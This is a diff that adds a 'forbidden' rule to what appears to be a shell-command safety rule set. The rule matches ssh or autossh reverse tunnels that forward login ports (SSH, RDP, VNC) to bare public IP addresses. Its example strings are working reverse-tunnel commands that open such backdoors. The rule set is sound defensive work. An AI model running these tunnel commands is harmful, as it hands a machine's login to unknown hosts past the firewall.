@@ -669,6 +669,29 @@ RULES = [
         },
     },
     {
+        # `ssh -R 9000:localhost:22 tunnel@91.210.107.4`: bound to the other host's loopback, the forward
+        # still hands this machine's login to whoever holds that host; a bare IP address is a host
+        # nobody vouches for, so a stranger gets a way in past the firewall. A named host of one's
+        # own (`me@dev.example.com`) keeps net.ssh-remote-forward's pause.
+        "id": "net.ssh-remote-forward-login-untrusted",
+        "level": "forbidden",
+        "reason": "hands this machine's login service (SSH, RDP, VNC) through a reverse tunnel to a bare IP "
+        "address: whoever holds that host can reach this machine's login past the firewall",
+        "safer": "Use a VPN or a bastion you control, named and vouched for.",
+        "recovery": "Kill the ssh process that holds the tunnel and review this machine's auth logs.",
+        "match": {"cmd": ("ssh", "autossh"), "flags_any": ("-R",), "hosts": "public_ip",
+                  "words_any": tuple(f"{prefix}*:{port}" for prefix in ("", "-R")
+                                     for port in ("22", "3389", "5900"))},
+        "examples": {
+            "match": ["ssh -R 9000:localhost:22 tunnel@91.210.107.4 -N -f",
+                      "autossh -M 0 -N -R 2222:127.0.0.1:22 45.77.12.201",
+                      "ssh -N -R 3390:localhost:3389 u@185.220.101.4"],
+            "no_match": ["ssh -N -R 2200:localhost:22 relay@vps.example.net",
+                         "ssh -R 8080:localhost:3000 me@91.210.107.4",
+                         "ssh -L 2200:localhost:22 tunnel@91.210.107.4"],
+        },
+    },
+    {
         # `ssh -L 0.0.0.0:5432:db.internal:5432 bastion`, `ssh -D 0.0.0.0:1080`, `socat TCP-LISTEN:…
         # TCP:db:5432`: a service reachable only from inside is offered to every machine that reaches
         # this one (a forward bound to localhost, the default, is the developer's own)
